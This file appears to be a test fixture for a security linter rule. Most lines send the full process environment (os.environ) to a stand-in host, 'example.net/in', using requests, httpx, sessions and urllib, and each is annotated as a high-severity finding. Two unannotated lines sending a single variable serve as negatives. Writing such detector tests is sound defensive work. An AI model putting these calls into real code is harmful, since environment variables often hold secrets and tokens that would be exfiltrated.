import json
import os
import urllib.request

import httpx
import requests

payload = {"env": dict(os.environ)}
requests.post("https://example.net/in", json=payload)
#^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ high: sends all variables of the environment to "https://example.net/in"
requests.put("https://example.net/in", json=dict(os.environ))
#^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ high: sends all variables of the environment to "https://example.net/in"
httpx.post("https://example.net/in", json=dict(os.environ))
#^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ high: sends all variables of the environment to "https://example.net/in"
httpx.put("https://example.net/in", json={"all": dict(os.environ)})
#^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ high: sends all variables of the environment to "https://example.net/in"
session.post("https://example.net/in", json=dict(os.environ))
#^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ high: sends all variables of the environment to "https://example.net/in"
session.put("https://example.net/in", json=dict(os.environ))
#^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ high: sends all variables of the environment to "https://example.net/in"
requests.post("https://example.net/in", data=dict(os.environ))
#^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ high: sends all variables of the environment to "https://example.net/in"
requests.put("https://example.net/in", data=os.environ)
#^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ high: sends all variables of the environment to "https://example.net/in"
httpx.post("https://example.net/in", data=dict(os.environ))
#^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ high: sends all variables of the environment to "https://example.net/in"
httpx.put("https://example.net/in", data=dict(os.environ))
#^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ high: sends all variables of the environment to "https://example.net/in"
session.post("https://example.net/in", data=dict(os.environ))
#^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ high: sends all variables of the environment to "https://example.net/in"
session.put("https://example.net/in", data=dict(os.environ))
#^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ high: sends all variables of the environment to "https://example.net/in"
urllib.request.Request("https://example.net/in", data=dict(os.environ))
#^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ high: sends all variables of the environment to "https://example.net/in"
urllib.request.urlopen("https://example.net/in", data=os.environ)
#^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ high: sends all variables of the environment to "https://example.net/in"
requests.post("https://example.net/in", json={"region": os.environ["REGION"]})
requests.post("https://example.net/in", json={"region": os.environ.get("REGION")})
